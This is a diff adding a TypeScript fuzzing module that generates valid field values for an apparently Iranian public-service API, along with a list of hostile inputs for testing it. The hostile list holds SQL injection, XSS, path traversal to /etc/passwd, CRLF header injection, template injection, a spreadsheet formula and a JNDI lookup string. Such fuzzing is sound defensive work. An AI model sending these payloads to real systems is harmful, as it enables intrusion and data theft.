@@ -1,0 +1,126 @@
+/** What goes into fields: valid values by the document's schema, and hostile ones by experience. */
+
+import fc from "fast-check";
+import { exampleNationalCode } from "../../shared/domain/national-code.ts";
+import { definitions } from "./document.ts";
+import { type JsonSchema, resolved } from "./schema.ts";
+
+/**
+ * A place in a generated body for what only the running system can say: the code of a request, a key of the directory.
+ * Filled when the request is sent.
+ */
+export class FromSystem {
+  readonly name: string;
+  readonly pick: number;
+  constructor(name: string, pick: number) {
+    this.name = name;
+    this.pick = pick;
+  }
+}
+
+const fromSystem = [
+  "code",
+  "mobile",
+  "challenge",
+  "oneTimeCode",
+  "kind",
+  "subject",
+  "province",
+  "unit",
+  "outcome",
+];
+
+/** Fields whose rule no JSON Schema can state say it in their description; what follows it is made here. */
+const described: readonly (readonly [begins: string, values: fc.Arbitrary<string>])[] = [
+  ["Iranian national code", fc.nat(999_999_999).map((n) => exampleNationalCode(n))],
+  ["Code of a foreign national", fc.stringMatching(/^[1-9][0-9]{8,11}$/)],
+  ["Legal ID", fc.constantFrom("10380284790", "10861677542", "10100171920")],
+  ["Passport number", fc.stringMatching(/^[A-Z][0-9]{8}$/)],
+  ["Iranian postal code", fc.constantFrom("1193653471", "1619735744", "۱۱۹۳۶-۵۳۴۷۱")],
+  ["E-mail address", fc.stringMatching(/^[a-z]{1,12}\.[a-z]{1,12}@example\.(org|com)$/)],
+];
+
+const parts = ["گران", "كالا", "می‌خواهم", "price", "۱۲۳۴", "test", "«پرونده»", "e\u0301", "👪", "ي"];
+
+/** Persian and Latin words, with what people's keyboards put between them; long enough after folding, too. */
+function wordsOf(least: number, most: number): fc.Arbitrary<string> {
+  const begin = "گرانی ".repeat(Math.ceil(least / 5)).trimEnd();
+  const room = Math.min(40, Math.floor((most - begin.length) / 10));
+  return fc
+    .array(fc.constantFrom(...parts), { maxLength: Math.max(0, room) })
+    .map((words) => [begin, ...words].join(" "));
+}
+
+function textOf(name: string, schema: JsonSchema): fc.Arbitrary<unknown> {
+  if (schema.const !== undefined) return fc.constant(schema.const);
+  if (schema.enum) return fc.constantFrom(...schema.enum);
+  if (fromSystem.includes(name)) return fc.nat(1_000).map((pick) => new FromSystem(name, pick));
+  const rule = described.find(([begins]) => schema.description?.startsWith(begins));
+  if (rule) return rule[1];
+  if (schema.description !== undefined || schema.pattern !== undefined)
+    throw new Error(`The fuzzer cannot make a ${name}`);
+  return wordsOf(schema.minLength ?? 1, schema.maxLength ?? 300);
+}
+
+/** Values that fit a schema. */
+export function valuesOf(given: JsonSchema, name = ""): fc.Arbitrary<unknown> {
+  const schema = resolved(given, definitions);
+  if (schema.oneOf) return fc.oneof(...schema.oneOf.map((one) => valuesOf(one, name)));
+  if (schema.type === "array") {
+    const { minItems = 0, maxItems = 5 } = schema;
+    return fc.array(valuesOf(schema.items ?? {}, name), {
+      minLength: minItems,
+      maxLength: Math.min(4, maxItems),
+    });
+  }
+  if (schema.type !== "object") return textOf(name, schema);
+  const fields = Object.entries(schema.properties ?? {}).map(([field, each]) => [
+    field,
+    valuesOf(each, field),
+  ]);
+  return fc.record(Object.fromEntries(fields), { requiredKeys: [...(schema.required ?? [])] as never[] });
+}
+
+/** What somebody puts where something else belongs. */
+export const hostile: fc.Arbitrary<string> = fc.oneof(
+  fc.constantFrom(
+    "",
+    " ",
+    "\u0000",
+    "\u202E‮؜",
+    "\uFEFF",
+    "\uD800",
+    "null",
+    "undefined",
+    "NaN",
+    "-1",
+    "1e999",
+    "__proto__",
+    "constructor",
+    "toString",
+    "' OR 1=1 --",
+    '"; DROP TABLE requests; --',
+    "{{7*7}}<%= 7*7 %>#{7*7}",
+    "<script>alert(1)</script>",
+    "../../../../etc/passwd",
+    "%00%0d%0aSet-Cookie: a=b",
+    "\r\nSet-Cookie: session=stolen",
+    '=HYPERLINK("https://example.org")',
+    "%{jndi:ldap://example.org/a}",
+    "ﷺ".repeat(50),
+    "Z̸̡̢̛͎̗".repeat(60),
+    "۰۱۲۳۴۵۶۷۸۹",
+    "٠١٢٣٤٥٦٧٨٩",
+    "𝟘𝟙𝟚",
+    "a".repeat(70_000),
+  ),
+  fc.string({ unit: "binary", maxLength: 60 }),
+  fc.string({ unit: "grapheme", maxLength: 60 }),
+);
+
+/** Values of other types than a text, and numbers at the edges of what numbers can say. */
+export const wrongTypes: fc.Arbitrary<unknown> = fc.oneof(
+  fc.constantFrom(0, -1, 1e308, -0.0, Number.MAX_SAFE_INTEGER + 2, true, false, null, [], [[]], {}, [null]),
+  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
+  fc.double({ noNaN: true, noDefaultInfinity: true }),
+);
